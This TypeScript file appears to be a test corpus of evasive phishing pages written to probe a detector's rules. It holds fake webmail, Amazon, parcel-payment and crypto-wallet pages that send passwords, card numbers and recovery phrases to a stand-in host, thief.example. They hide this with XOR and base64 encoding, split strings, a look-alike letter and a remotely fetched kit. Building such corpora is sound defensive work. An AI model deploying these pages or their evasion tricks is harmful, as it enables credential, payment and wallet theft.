// Corpus of phishing pages written after the rules, as an attacker with two minutes would adapt.
import { base64 } from './encodings.ts'

const login = `<h1>Webmail</h1><form action="https://thief.example/a" method="post"><input name="u"><input type="password" name="p"><button>Sign in</button></form>`
const masked = [...Buffer.from(login.repeat(3))].map((byte) => byte ^ 90).join(',')
const padding =
  'Our service has been trusted by thousands of customers since 2009. We take the protection of your data seriously and work with partners all over the world. Please read our terms of use and our privacy notice before you continue. '

export const adaptedKits: Readonly<Record<string, string>> = {
  'opaque content beside small print': `<title>Portal</title><small>${padding}</small><script>document.body.innerHTML=new TextDecoder().decode(Uint8Array.from([${masked}].map(b=>b^90)))</script>`,
  'opaque content in an attribute': `<title>Portal</title><div id="d" data-x="${base64(login.repeat(3))}"></div><script>d.innerHTML=atob(d.dataset.x)</script>`,
  'a type by atob': `<title>Secure mail</title><p>Sign in to read the message</p><div id="r"></div><script>const i=document.createElement('input'),u=document.createElement('input');i.type=atob('cGFzc3dvcmQ=');r.append(u,i);i.onchange=()=>fetch('https://thief.example/c',{method:'POST',body:u.value+i.value})</script>`,
  'a table of words': `<title>Secure mail</title><div id="r"></div><script>const w=['word','Email','pass','https://','thief.example/c'];const i=document.createElement('input'),u=document.createElement('input');u.placeholder=w[1];i.type=w[2]+w[0];r.append(u,i);i.onchange=()=>fetch(w[3]+w[4],{method:'POST',body:u.value+i.value})</script>`,
  'a phrase in German': `<html lang="de"><title>Wallet wiederherstellen</title><h1>Wallet wiederherstellen</h1><p>Geben Sie Ihre Wiederherstellungsphrase ein.</p><textarea id="t" placeholder="24 Wörter, durch Leerzeichen getrennt"></textarea><button id="b">Weiter</button><script>b.onclick=()=>fetch('https://thief.example/w',{method:'POST',body:t.value})</script></html>`,
  'boxes for words': `<title>Connect</title><h1>Enter your Secret Recovery Phrase</h1><div>${'<span contenteditable class="w"></span>'.repeat(24)}</div><button id="b">Connect wallet</button><script>b.onclick=()=>navigator.sendBeacon('https://thief.example/w',[...document.querySelectorAll('.w')].map(x=>x.textContent).join(' '))</script>`,
  'transparent letters': `<title>Mail</title><style>.s{color:transparent;text-shadow:0 0 6px #000}</style><h1>Sign in to your mailbox</h1><form action="https://thief.example/m" method="post"><input name="a" placeholder="Email"><input name="b" class="s" placeholder="Password" autocomplete="off"><button>Sign in</button></form>`,
  'a Polish parcel': `<html lang="pl"><title>InPost – dopłata do przesyłki</title><h1>Twoja paczka czeka</h1><p>Dopłać 1,99 zł, aby odebrać przesyłkę w ciągu 24 godzin.</p><form action="https://thief.example/p" method="post"><input name="k" placeholder="Numer karty"><input name="d" placeholder="MM/RR"><input name="c" placeholder="CVV"><button>Zapłać</button></form></html>`,
  'Amazon with one foreign letter, in a template': `<title>Аmazon – Sign-In</title><template id="t"><h1>Sign in</h1><form action="https://thief.example/z"><input name="email" placeholder="Email or mobile phone number"><input type="password" name="password"></form></template><main id="m"></main><script>m.append(t.content.cloneNode(true))</script>`,
  'a page that is fetched': `<title>Loading…</title><script>fetch('https://thief.example/kit.html').then(r=>r.text()).then(t=>{document.open();document.write(t);document.close()})</script>`,
}
